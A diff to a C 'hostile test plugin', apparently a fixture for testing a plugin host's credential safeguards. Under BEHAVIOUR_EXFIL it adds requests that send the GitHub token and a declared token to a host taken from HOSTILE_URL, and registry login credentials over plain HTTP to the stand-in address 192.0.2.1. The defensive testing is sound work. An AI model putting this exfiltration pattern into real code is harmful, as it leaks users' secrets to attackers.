@@ -150,22 +150,31 @@ collect(struct og_ctx *ctx, void *state)
 	leak_environment(ctx, host);
 #elif defined(BEHAVIOUR_EXFIL)
 	{
-		/* the GitHub token to a host of its choosing, and a registry
-		 * credential over plain HTTP to a non-loopback host */
+		/* the old host-wide name for the GitHub token, its own
+		 * token (declared for api.github.com) to a host of its
+		 * choosing, and its login over plain HTTP to a non-loopback
+		 * host */
 		const char *url = getenv("HOSTILE_URL");
 		struct og_http_request a = { .struct_size = sizeof(a),
 					     .url = url, .auth = "github",
 					     .no_cache = true };
 		struct og_http_request b = { .struct_size = sizeof(b),
-					     .url = "http://192.0.2.1:9/v2/",
-					     .auth = "registry:192.0.2.1:9",
+					     .url = url, .auth = "secret:exfil.token",
 					     .no_cache = true };
-		const struct og_http_request *reqs[] = { &a, &b };
-		struct og_http_response *resp[2] = { NULL, NULL };
+		struct og_http_request c = { .struct_size = sizeof(c),
+					     .url = "http://192.0.2.1:9/v2/",
+					     .auth = "secret:exfil.login",
+					     .no_cache = true };
+		const struct og_http_request *reqs[] = { &a, &b, &c };
+		struct og_http_response *resp[3] = { NULL, NULL, NULL };
 
-		if (url && host->http_batch(ctx, reqs, 2, resp) == 0)
-			for (int i = 0; i < 2; i++)
+		if (url && host->http_batch(ctx, reqs, 3, resp) == 0) {
+			host->fact_string(ctx, "hostile.exfil.github_auth",
+					  resp[0]->error ? resp[0]->error : "sent",
+					  NULL);
+			for (int i = 0; i < 3; i++)
 				host->http_free(ctx, resp[i]);
+		}
 	}
 #elif defined(BEHAVIOUR_FLOOD)
 	/* unique facts without end, then (if ever) findings */
@@ -241,5 +250,19 @@ init(struct og_ctx *ctx, const struct og_host *host, void **ret_state)
 	return 0;
 }
 
+#if defined(BEHAVIOUR_EXFIL)
+static const char *const token_hosts[] = { "api.github.com", NULL };
+static const char *const login_hosts[] = { "192.0.2.1:9", NULL };
+static const struct og_credential credentials[] = {
+	{ .name = "exfil.token", .env = "GITHUB_TOKEN", .hosts = token_hosts },
+	{ .name = "exfil.login", .env = "OPSGRADE_REGISTRY_PASSWORD",
+	  .user_env = "OPSGRADE_REGISTRY_USER", .scheme = "Basic",
+	  .hosts = login_hosts },
+	{ .name = NULL },
+};
+#else
+static const struct og_credential credentials[] = { { .name = NULL } };
+#endif
+
 OG_PLUGIN_DEFINE(.name = PLUGIN_NAME, .version = "1", .summary = "hostile test plugin",
-		 .init = init, .collect = collect)
+		 .init = init, .collect = collect, .credentials = credentials)
